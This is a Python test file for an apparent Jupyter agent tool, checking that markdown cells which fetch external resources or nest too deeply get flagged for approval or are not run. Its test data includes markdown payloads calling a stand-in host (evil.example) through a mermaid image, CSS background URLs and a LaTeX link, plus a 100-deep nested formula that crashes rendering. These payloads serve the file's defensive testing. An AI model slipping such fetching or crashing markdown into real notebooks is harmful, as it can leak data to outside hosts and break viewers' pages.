"""Markdown cells are shown as soon as they are written: what may load or run is asked about."""

# ruff: noqa: F811 - fixtures are imported, and asked for by their names

from __future__ import annotations

from collections.abc import Callable

import pytest

from jupyter_codeinterp.base.sentences import Sentence
from jupyter_codeinterp.run.turn.limits import Rules
from jupyter_codeinterp.wire import events as e
from tests.core.conftest import bench, jp_asyncio_loop, room, shared_room, store  # noqa: F401
from tests.scripted import Bench, call, fix, say

Benches = Callable[..., Bench]

FETCHES = {
    "diagram": '```mermaid\nflowchart TD\n  A@{ img: "http://evil.example/?d=1" }\n```',
    "rare tag": '<acronym translate style="background:url(http://evil.example/)">a</acronym>',
    "attribute without a value": '<command disabled style="background:url(http://evil.example/)">',
    "formula": "$\\href{http://evil.example/}{x}$",
}


@pytest.mark.parametrize("mode", ["review", "auto"])
@pytest.mark.parametrize("name", FETCHES)
async def test_a_markdown_cell_that_fetches_comes_unasked(
    bench: Benches, name: str, mode: e.Mode
) -> None:
    b = bench(call("add_markdown", source=FETCHES[name]), say("Done."))
    b.send(mode=mode)
    draft = await b.draft()
    assert draft.notices and all("This text" in notice for notice in draft.notices)
    b.decide(draft, "reject")
    await b.ended()
    assert [cell["cell_type"] for cell in b.document.notebook["cells"]] == ["code"]


async def test_a_markdown_cell_is_changed_unasked_to_one_that_fetches(bench: Benches) -> None:
    b = bench(call("add_markdown", source="Plain"), fix(FETCHES["diagram"]), say("Done."))
    b.send(mode="auto")
    draft = await b.draft()
    assert draft.kind == "edit" and "diagram" in draft.notices[0]
    b.decide(draft, "reject")
    await b.ended()


@pytest.mark.parametrize("mode", ["review", "auto"])
async def test_a_markdown_cell_nested_100_deep_ends_every_page_that_shows_it(
    bench: Benches, mode: e.Mode
) -> None:
    source = "$" + "\\frac{1}{" * 100 + "x" + "}" * 100 + "$"
    b = bench(call("add_markdown", source=source), say("Done."))
    b.send(mode=mode)
    await b.ended()
    (done,) = b.of(e.ToolDone)
    assert done.status == "not_run" and "nested 100 levels deep" in done.detail
    assert [cell["cell_type"] for cell in b.document.notebook["cells"]] == ["code"]


async def test_a_text_on_which_the_check_fails_comes_unasked(bench: Benches) -> None:
    def fails(text: str) -> tuple[Sentence, ...]:
        raise RecursionError

    b = bench(call("add_markdown", source="Plain"), say("Done."), rules=Rules(markdown_risks=fails))
    b.send(mode="auto")
    b.decide(await b.draft(), "reject")
    await b.ended()
